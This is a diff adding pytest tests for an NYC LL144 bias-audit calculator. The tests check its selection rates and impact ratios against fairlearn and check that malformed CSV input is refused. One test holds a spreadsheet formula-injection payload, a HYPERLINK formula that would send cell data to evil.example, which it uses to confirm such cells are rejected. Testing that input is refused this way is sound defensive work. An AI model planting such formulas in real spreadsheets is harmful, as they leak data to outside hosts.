@@ -1,0 +1,147 @@
+"""NYC LL144 figures from a candidate CSV, checked against fairlearn's MetricFrame, and refused input."""
+
+from __future__ import annotations
+
+import io
+from pathlib import Path
+from typing import Any
+
+import pandas
+import pytest
+from fairlearn.metrics import MetricFrame, selection_rate
+from wizard_helpers import candidates, write_csv
+
+from assay.backend.engines.wizard.ll144 import EXCLUSION_SHARE, DataError, compute
+
+
+def _compute(text: str | bytes) -> dict[str, Any]:
+    return compute(io.BytesIO(text.encode("utf-8") if isinstance(text, str) else text))
+
+
+def _peer_rates(frame: pandas.DataFrame, positive: pandas.Series, by: list[str]) -> dict[tuple[str, ...], float]:
+    """fairlearn's selection rate of each category with a known value in ``by``."""
+    known = frame[by].ne("").all(axis=1)
+    metric = MetricFrame(
+        metrics=selection_rate,
+        y_true=positive[known],
+        y_pred=positive[known],
+        sensitive_features=frame.loc[known, by],
+    )
+    groups = metric.by_group
+    return {(k if isinstance(k, tuple) else (k,)): float(v) for k, v in groups.items()}
+
+
+def _ours(table: list[dict[str, Any]], by: list[str]) -> dict[tuple[str, ...], dict[str, Any]]:
+    keys = {"sex": "sex", "race_ethnicity": "raceEthnicity"}
+    return {tuple(row[keys[b]] for b in by): row for row in table if row["count"]}
+
+
+@pytest.mark.parametrize("score", [False, True])
+def test_rates_and_impact_ratios_equal_fairlearn(tmp_path: Path, score: bool) -> None:
+    rows = candidates(6000, score=score)
+    path = write_csv(tmp_path / "c.csv", rows, score=score)
+    with path.open("rb") as stream:
+        figures = compute(stream)
+    frame = pandas.read_csv(path, keep_default_na=False, dtype=str)
+    if score:
+        scores = frame["score"].astype(float)
+        median = float(scores.median())
+        assert figures["medianScore"] == median
+        positive = (scores > median).astype(int)
+    else:
+        positive = frame["selected"].astype(int)
+    assert figures["method"] == ("scoring_rate" if score else "selection_rate")
+    total = len(frame)
+    for by, table in (
+        (["sex"], "bySex"),
+        (["race_ethnicity"], "byRaceEthnicity"),
+        (["sex", "race_ethnicity"], "intersectional"),
+    ):
+        peer = _peer_rates(frame, positive, by)
+        ours = _ours(figures[table], by)
+        assert set(peer) == set(ours)
+        counts = frame.groupby(by).size()
+        included = {k: r for k, r in peer.items() if counts[k if len(k) > 1 else k[0]] / total >= EXCLUSION_SHARE}
+        top = max(included.values())
+        for key, rate in peer.items():
+            assert ours[key]["rate"] == pytest.approx(rate, abs=1e-12)
+            if key in included:
+                assert ours[key]["impactRatio"] == pytest.approx(rate / top, abs=1e-12)
+                assert ours[key]["underFourFifths"] == (rate / top < 0.8)
+            else:
+                assert ours[key]["excludedFromRatios"] and ours[key]["impactRatio"] is None
+    # Two races are under 2% of the rows: excluded from the ratios, still reported with their counts.
+    excluded = [r for r in figures["byRaceEthnicity"] if r["excludedFromRatios"]]
+    assert {r["raceEthnicity"] for r in excluded} == {
+        "Native Hawaiian or Other Pacific Islander",
+        "American Indian or Alaska Native",
+    }
+    assert all(r["count"] > 0 for r in excluded)
+    assert figures["unknown"]["sex"] == sum(1 for s, _r, _v in rows if s == "")
+    assert figures["rows"] == 6000
+
+
+def test_under_four_fifths_is_marked_with_a_small_sample_note() -> None:
+    text = "sex,race_ethnicity,selected\n" + "Male,White,1\n" * 10 + "Female,White,1\n" * 5 + "Female,White,0\n" * 5
+    figures = _compute(text)
+    female = next(r for r in figures["bySex"] if r["sex"] == "Female")
+    assert female["impactRatio"] == 0.5 and female["underFourFifths"] and female["smallSample"]
+    assert figures["underFourFifths"] == [
+        {"table": "bySex", "category": "Female", "impactRatio": 0.5},
+        {"table": "intersectional", "category": "Female / White", "impactRatio": 0.5},
+    ]
+
+
+def test_eeo1_long_names_blank_lines_crlf_and_bom_are_read() -> None:
+    text = (
+        "\ufeffSex,Race_Ethnicity,Selected\r\n"
+        "male,White (Not Hispanic or Latino),1\r\n"
+        "\r\n"
+        "Female,Asian (Not Hispanic or Latino),0\r\n"
+        'Female,"Hispanic or Latino",1\r\n'
+    )
+    figures = _compute(text)
+    assert figures["rows"] == 3
+    assert [r["count"] for r in figures["bySex"]] == [1, 2]
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"", "empty"),
+        (b"sex,selected\nMale,1\n", "Missing column(s): race_ethnicity"),
+        (b"sex,race_ethnicity\nMale,White\n", "selected or score"),
+        (b"sex,race_ethnicity,selected,score\nMale,White,1,3\n", "both selected and score"),
+        (b"sex,race_ethnicity,selected\n", "no candidate rows"),
+        (b"sex,race_ethnicity,selected\nMale,White,1\nMale,Martian,0\n", 'data row 2: race_ethnicity "Martian"'),
+        (b"sex,race_ethnicity,selected\nMale,White,1\nMale,White,2\n", "data row 2: selected"),
+        (b"sex,race_ethnicity,selected\nMale,White,1\nMale,White\n", "data row 2 has 2 cell(s)"),
+        (b"sex,race_ethnicity,score\nMale,White,1.5\nFemale,White,nan\n", "data row 2: score"),
+        (b"sex,race_ethnicity,score\nMale,White,1.5\nFemale,White,=1+2\n", "data row 2: score"),
+        ("sex,race_ethnicity,selected\nMale,Blanc,1\nFemme,Noir,0\n".encode("latin-1"), "data row 1"),
+        ("sex,race_ethnicity,selected\nMale,Hispánico,1\n".encode("latin-1"), "not UTF-8"),
+        ("sex,race_ethnicity,selected\nMale,White,1\n".encode("utf-16"), "UTF-16"),
+        (b'sex,race_ethnicity,selected\nMale,"White,1\n', "malformed"),
+    ],
+)
+def test_unusable_files_are_refused_with_the_reason(content: bytes, message: str) -> None:
+    with pytest.raises(DataError, match=None) as caught:
+        _compute(content)
+    assert message in str(caught.value)
+
+
+def test_formula_cells_are_refused_and_quoted_only_json_escaped() -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with pytest.raises(DataError) as caught:
+        _compute(f"sex,race_ethnicity,selected\nMale,White,1\nMale,{formula.replace(',', ';')},0\n")
+    message = str(caught.value)
+    assert "data row 2" in message and "race_ethnicity" in message
+    # Quoted as JSON text, cut: never the raw cell.
+    assert '"=HYPERLINK(\\"http://evil.example/?\\"&A1;\\"c..."' in message
+
+
+def test_quoted_cells_and_extra_columns_go_through_the_csv_reader() -> None:
+    text = 'id,note,sex,race_ethnicity,selected\n1,"a, b",Male,White,1\n2,"line\nbreak",Female,White,0\n'
+    figures = _compute(text)
+    assert figures["rows"] == 2
+    assert [r["rate"] for r in figures["bySex"]] == [1.0, 0.0]
